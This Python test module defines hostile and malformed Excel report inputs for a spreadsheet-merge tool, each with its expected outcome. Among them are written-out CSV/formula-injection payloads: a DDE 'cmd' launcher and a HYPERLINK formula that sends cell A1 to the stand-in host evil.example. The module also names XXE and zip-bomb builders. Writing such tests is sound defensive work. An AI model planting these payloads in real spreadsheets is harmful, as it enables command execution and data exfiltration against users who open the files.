"""The corpus of broken and hostile inputs: one builder per case and the outcome the merge must reach.

Each case writes one file into an inbox that also holds a good report (kit.GOOD); test_corpus.py runs the
real merge on it and checks the outcome, the codes, the message (file, sheet, cell), the master and where
the file went. The cells named below are those of the VP template (edits.py).
"""

from __future__ import annotations

import datetime as dt
import unicodedata
from collections.abc import Mapping
from dataclasses import dataclass, field

from sheetsync.core.legacy import from_unicode
from sheetsync.problems import Code
from sheetsync.schema import SIGNATURE_SHEET, Outcome
from tests.hostile import builders, edits
from tests.hostile.edits import filled, in_excel, then

REJECTED, ACCEPTED, PARTIAL = Outcome.REJECTED, Outcome.ACCEPTED, Outcome.PARTIAL
DONE, IN_PROGRESS = "Đã hoàn thành", "Đang thực hiện"
# a second row every partly applied case also changes, so "partly" is visible in the master
ALSO = {"3.1.1": {"progress": 10}}
ALSO_CHANGED = {("3.1.1", "progress"): 10}


@dataclass(frozen=True)
class Expect:
    outcome: Outcome
    errors: frozenset[Code] = frozenset()  # exactly the error codes the file gets
    warnings: frozenset[Code] = frozenset()  # at least these warnings
    cells: frozenset[str] = frozenset()  # cells of "Báo cáo" the problems must name
    changes: Mapping[tuple[str, str], object] = field(default_factory=dict)  # (Mã NV, column key) -> new value


@dataclass(frozen=True)
class Case:
    name: str
    file: str
    build: edits.Build
    expect: Expect
    heavy: bool = False  # bombs and huge sheets: also measured in a subprocess (time, peak RSS)


def expect(outcome: Outcome, errors=(), warnings=(), cells=(), changes=None) -> Expect:
    return Expect(outcome, frozenset(errors), frozenset(warnings), frozenset(cells), dict(changes or {}))


def rejected(code: Code, *cells: str) -> Expect:
    return expect(REJECTED, {code}, cells=cells)


def partly(code: Code, *cells: str) -> Expect:
    """The row at `cells` skipped for `code`, the 3.1.1 change of ALSO applied."""
    return expect(PARTIAL, {code}, cells=cells, changes=ALSO_CHANGED)


def accepted(changes: Mapping[tuple[str, str], object], *warnings: Code, cells: tuple[str, ...] = ()) -> Expect:
    return expect(ACCEPTED, warnings=warnings, cells=cells, changes=changes)


def on_111(**values: object) -> dict[tuple[str, str], object]:
    return {("1.1.1", key): value for key, value in values.items()}


def _nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


def _legacy(encoding: str) -> dict[str, dict[str, object]]:
    return {"1.1.1": {"status": from_unicode(IN_PROGRESS, encoding), "result": from_unicode("Đã rà soát", encoding)}}


def _done_on(text: object) -> dict[str, dict[str, object]]:
    return {"1.1.1": {"status": DONE, "progress": 100, "completed_on": text}}


DONE_ON_4_12 = on_111(status=DONE, progress=100, completed_on=dt.date(2026, 12, 4))
LEGACY_READ = on_111(status=IN_PROGRESS, result="Đã rà soát")
PAYLOADS = {
    "1.1.1": {"result": "=cmd|' /C calc'!A0", "difficulties": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")'},
    "1.1.7": {"result": "@SUM(1+1)*cmd|' /C calc'!A0", "difficulties": "+1+2"},
    "3.1.1": {"result": "-2+3"},
}
PAYLOADS_STORED = {(code, key): text for code, row in PAYLOADS.items() for key, text in row.items()}
LIVE = {"1.1.1": {"result": '=HYPERLINK("http://evil.example/","Bấm vào")', "progress": "=20+30"}}


def cases() -> list[Case]:
    vp = filled()
    delete_header = in_excel(lambda ws: ws.delete_rows(14))
    delete_columns = in_excel(lambda ws: ws.delete_cols(6, 2))  # Tiến độ (%), Ngày hoàn thành
    remove_seal = in_excel(lambda ws: ws.parent.remove(ws), SIGNATURE_SHEET)
    file_level = [
        Case("empty", "rong.xlsx", edits.empty, rejected(Code.file_empty)),
        Case("random bytes", "ngau-nhien.xlsx", edits.random, rejected(Code.file_unreadable)),
        Case("CSV renamed", "csv-doi-ten.xlsx", edits.csv, rejected(Code.file_unreadable)),
        Case("truncated zip", "cat-cut.xlsx", then(vp, builders.truncated), rejected(Code.file_unreadable)),
        Case("encrypted", "mat-khau.xlsx", then(vp, builders.encrypted), rejected(Code.file_encrypted)),
        Case("entity bomb", "bom-thuc-the.xlsx", then(vp, builders.entity_bomb), rejected(Code.hostile_xml), True),
        Case("XXE", "xxe.xlsx", then(vp, builders.external_entity), rejected(Code.hostile_xml)),
        Case("zip bomb", "bom-zip.xlsx", then(vp, builders.zip_bomb), rejected(Code.zip_bomb), True),
        Case(
            "huge sheet",
            "bang-100000-dong.xlsx",
            then(vp, builders.huge_sheet),
            rejected(Code.sheet_too_large),
            True,
        ),
        Case("far cell", "o-xa-nhat.xlsx", then(vp, builders.far_cell), rejected(Code.sheet_too_large), True),
        Case(
            "one long shared string in 20,000 cells",
            "chu-lap.xlsx",
            then(vp, builders.shared_string_flood),
            rejected(Code.too_much_text),
            True,
        ),
        Case(
            "50 sheets of far cells",
            "50-trang.xlsx",
            then(vp, edits.many_far_sheets),
            rejected(Code.sheets_too_large),
            True,
        ),
        Case(
            "a million merged ranges",
            "gop-trieu.xlsx",
            then(vp, edits.merged_everywhere),
            rejected(Code.too_many_merged),
            True,
        ),
        Case("header row deleted", "mat-tieu-de.xlsx", then(vp, delete_header), rejected(Code.structure_broken)),
        Case(
            "columns partly deleted",
            "xoa-cot.xlsx",
            then(vp, delete_columns),
            rejected(Code.structure_broken, "14:14"),
        ),
        Case("another ward's key", "mau-phuong-khac.xlsx", filled(template="foreign"), rejected(Code.bad_signature)),
        Case(
            "relabelled as another unit",
            "doi-don-vi.xlsx",
            then(vp, in_excel(edits.relabel, SIGNATURE_SHEET)),
            rejected(Code.bad_signature),
        ),
        Case("seal sheet deleted", "khong-phai-mau.xlsx", then(vp, remove_seal), rejected(Code.not_a_template)),
        Case(
            "impossible report date",
            "ngay-31-02.xlsx",
            filled(report_date="31/02/2026"),
            rejected(Code.bad_date, "D10"),
        ),
        Case(
            "report date in the future",
            "ngay-mai.xlsx",
            filled(report_date=dt.date(2026, 12, 11)),
            rejected(Code.report_date_in_future, "D10"),
        ),
    ]
    progress_20, progress_30 = (
        filled(rows={"1.1.1": {"progress": 20}}),
        filled(rows={"1.1.1": {"status": IN_PROGRESS, "progress": 30}}),
    )
    applied = [
        Case(
            "'Báo cáo' sheet renamed",
            "doi-ten-trang.xlsx",
            then(progress_20, in_excel(edits.rename)),
            accepted(on_111(progress=20)),
        ),
        Case(
            "columns reordered",
            "dao-cot.xlsx",
            then(progress_30, in_excel(edits.swap_status_and_result)),
            accepted(on_111(status=IN_PROGRESS, progress=30)),
        ),
        Case(
            "template of another period",
            "ky-truoc.xlsx",
            filled(template="earlier", rows={"1.1.1": {"progress": 15}}),
            accepted(on_111(progress=15), Code.report_date_outside_period),
        ),
        Case(
            "second copy under another name",
            "sao-chep-kt.xlsx",
            edits.copy_of_good,
            expect(Outcome.DUPLICATE, warnings={Code.duplicate_file}),
        ),
        Case(
            "TCVN3 text",
            "tcvn3.xlsx",
            then(filled(rows=_legacy("tcvn3")), in_excel(edits.fonts(".VnTime", ".VnTime"))),
            accepted(LEGACY_READ, Code.legacy_encoding, cells=("E15", "H15")),
        ),
        Case(
            "VNI text",
            "vni.xlsx",
            then(filled(rows=_legacy("vni")), in_excel(edits.fonts("VNI-Times", "VNI-Times"))),
            accepted(LEGACY_READ, Code.legacy_encoding, cells=("E15", "H15")),
        ),
        Case(
            "NFD text",
            "nfd.xlsx",
            filled(rows={"1.1.1": {"status": _nfd(IN_PROGRESS), "result": _nfd("Đã rà soát")}}),
            accepted(LEGACY_READ),
        ),
        Case(
            "formula and DDE payloads typed as text",
            "cong-thuc-chu.xlsx",
            filled(rows=PAYLOADS),
            accepted(PAYLOADS_STORED, Code.formula_as_text, cells=("H15", "I15", "H16", "I16")),
        ),
        Case(
            "live formulas",
            "cong-thuc-that.xlsx",
            filled(formulas=LIVE),
            expect(Outcome.NO_CHANGE, warnings={Code.formula_cell}, cells={"F15", "H15"}),
        ),
        Case(
            "macro-enabled .xlsm",
            "co-macro.xlsm",
            then(filled(rows={"1.1.1": {"progress": 25}}), builders.macro_enabled),
            accepted(on_111(progress=25), Code.macro_ignored),
        ),
        Case(
            "progress 0.5 formatted as percent",
            "phan-tram-dinh-dang.xlsx",
            then(filled(rows={"1.1.1": {"progress": 0.5}}), in_excel(edits.percent_format)),
            accepted(on_111(progress=50)),
        ),
        Case(
            "progress '50%'",
            "phan-tram-chu.xlsx",
            filled(rows={"1.1.1": {"progress": "50%"}}),
            accepted(on_111(progress=50), Code.value_normalized, cells=("F15",)),
        ),
        Case(
            "progress '50' as text",
            "so-dang-chu.xlsx",
            filled(rows={"1.1.1": {"progress": "50"}}),
            accepted(on_111(progress=50)),
        ),
    ]
    done = {"progress": 100, "completed_on": dt.date(2026, 12, 4)}
    statuses = [
        Case(
            f"status {typed!r}",
            f"tinh-trang-{n}.xlsx",
            filled(rows={"1.1.1": {"status": typed, **extra}}),
            accepted(on_111(status=meant, **extra), Code.value_normalized, cells=("E15",)),
        )
        for n, (typed, meant, extra) in enumerate(
            [("xong", DONE, done), ("Hoàn Thành", DONE, done), ("HT", DONE, done), ("đang làm", IN_PROGRESS, {})]
        )
    ]
    good_dates = [
        "4/12/2026",
        "04/12/2026",
        "4-12-2026",
        "4.12.2026",
        "ngày 4 tháng 12 năm 2026",
        "Ngày 04/12/2026",
        "2026-12-04",
        "4/12",
        "04/12/26",
        " 4 / 12 / 2026 ",
        "4 tháng 12",
    ]
    dates = [
        Case(f"completion date {text!r}", f"ngay-ht-{n}.xlsx", filled(rows=_done_on(text)), accepted(DONE_ON_4_12))
        for n, text in enumerate(good_dates)
    ] + [
        Case(
            f"report date {text!r}",
            f"ngay-bc-{n}.xlsx",
            filled(report_date=text, rows={"1.1.1": {"progress": 5}}),
            accepted(on_111(progress=5)),
        )
        for n, text in enumerate(["05/12/2026", "5-12-2026", "ngày 05 tháng 12 năm 2026"])
    ]
    merged = then(
        filled(rows={"1.1.1": {"status": IN_PROGRESS}, **ALSO}),
        in_excel(lambda ws: ws.merge_cells("E15:F15")),
    )
    partial = [
        Case("merged cells over data", "gop-o.xlsx", merged, partly(Code.structure_broken, "E15")),
        Case(
            "progress 'năm mươi'",
            "nam-muoi.xlsx",
            filled(rows={"1.1.1": {"progress": "năm mươi"}, **ALSO}),
            partly(Code.bad_progress, "F15"),
        ),
        Case(
            "status 'đã triển khai' (ambiguous)",
            "trien-khai.xlsx",
            filled(rows={"1.1.1": {"status": "đã triển khai"}, **ALSO}),
            partly(Code.bad_status, "E15"),
        ),
        Case(
            "9,000 rows pasted under the table",
            "dan-9000-dong.xlsx",
            then(filled(rows=ALSO), edits.nine_thousand_rows),
            partly(Code.unknown_task, "A40", "A9039"),
            True,
        ),
        Case(
            "9,000 pasted rows, each merged",
            "dan-gop.xlsx",
            then(filled(rows=ALSO), edits.rows_each_merged),
            partly(Code.unknown_task, "A40"),
            True,
        ),
        Case(
            "40,000-character cell",
            "o-40000-ky-tu.xlsx",
            then(filled(rows={"1.1.1": {"result": "Quá dài. "}, **ALSO}), edits.forty_thousand),
            partly(Code.text_too_long, "H15"),
            True,
        ),
    ] + [
        Case(
            f"completion date {text!r}",
            f"ngay-sai-{n}.xlsx",
            filled(rows={**_done_on(text), **ALSO}),
            partly(Code.bad_date, "G15"),
        )
        for n, text in enumerate(["31/02/2026", "12/31/2026", "tuần trước", "04122026"])
    ]
    return file_level + applied + statuses + dates + partial


CASES = cases()
